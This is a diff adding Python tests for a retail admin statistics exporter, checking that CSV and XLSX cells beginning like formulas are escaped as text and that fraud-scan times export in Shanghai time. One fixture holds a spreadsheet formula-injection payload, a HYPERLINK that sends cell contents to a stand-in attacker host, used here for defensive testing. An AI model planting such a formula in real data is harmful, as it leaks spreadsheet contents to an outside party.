@@ -73,3 +73,61 @@ def test_indicators_export_as_xlsx(api, admin):
 def test_unknown_export_format_is_422(api, admin):
     response = api.get("/admin/stats/indicators", token=admin.token, query_string={"week": WEEK, "format": "pdf"})
     assert response.status_code == 422
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
+
+
+def test_export_cells_that_start_like_a_formula_are_written_as_text():
+    """A spec or gift name typed by an admin ends up in a cell: = + - @ (and tab, CR) must not run in Excel."""
+    from app.stats.exports import export
+
+    items = [{"sku": "A", "name": FORMULA}, {"sku": "B", "name": "+1"}, {"sku": "C", "name": "-2"},
+             {"sku": "D", "name": "@SUM(A1)"}, {"sku": "E", "name": "\t=1"}, {"sku": "F", "name": "中华(硬)",
+                                                                             "value": -0.5}]
+    text = export(items, "x", "csv").get_data(as_text=True).lstrip("\ufeff")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert [r["name"] for r in rows] == ["'" + FORMULA, "'+1", "'-2", "'@SUM(A1)", "'\t=1", "中华(硬)"]
+    assert rows[5]["value"] == "-0.5"  # numbers are not text: a negative one stays a number
+    sheet = load_workbook(io.BytesIO(export(items, "x", "xlsx").get_data())).active
+    values = list(sheet.values)
+    assert values[1][1] == "'" + FORMULA and sheet["B2"].data_type == "s"
+    assert values[6][2] == -0.5
+
+
+def test_gift_named_like_a_formula_is_text_in_the_redemption_exports(api, admin):
+    from datetime import date
+
+    from .test_member_stats import at, join
+    from .test_redemption_stats import redeem
+
+    gift = factories.create_gift(name=FORMULA, points_cost=10, stock=5)
+    handle = join()
+    factories.grant_points(handle.id, 100, now=at(date(2026, 11, 1)))
+    redeem(handle, gift, 1, date(2026, 11, 3))
+    query = {"by": "gift", "from": "2026-11-01", "to": "2026-11-30"}
+    response = api.get("/admin/stats/redemptions", token=admin.token, query_string={**query, "format": "csv"})
+    assert response.status_code == 200
+    (row,) = csv.DictReader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")))
+    assert row["name"] == "'" + FORMULA
+    response = api.get("/admin/stats/redemptions", token=admin.token, query_string={**query, "format": "xlsx"})
+    sheet = load_workbook(io.BytesIO(response.data)).active
+    header, row = list(sheet.values)
+    assert row[header.index("name")] == "'" + FORMULA
+
+
+def test_fraud_scans_with_their_time_export_as_xlsx_in_shanghai_time(api, admin):
+    """A far scan carries a timestamp with an offset, which XLSX cannot hold (openpyxl refused it: a 500)."""
+    from datetime import datetime, timezone
+
+    from .test_member_stats import join, scan
+
+    factories.create_retailer(region_code="440106", lat=Decimal("23.130000"), lon=Decimal("113.320000"))
+    handle = join()
+    scan(handle, factories.create_product(), datetime(2026, 11, 18, 2, tzinfo=timezone.utc), lat=39.90, lon=116.40)
+    query = {"from": "2026-11-18", "to": "2026-11-18"}
+    response = api.get("/admin/stats/fraud", token=admin.token, query_string={**query, "format": "xlsx"})
+    assert response.status_code == 200, response.json
+    header, row = list(load_workbook(io.BytesIO(response.data)).active.values)
+    assert row[header.index("signal")] == "far_scans"
+    assert row[header.index("created_at")] == "2026-11-18 10:00:00"
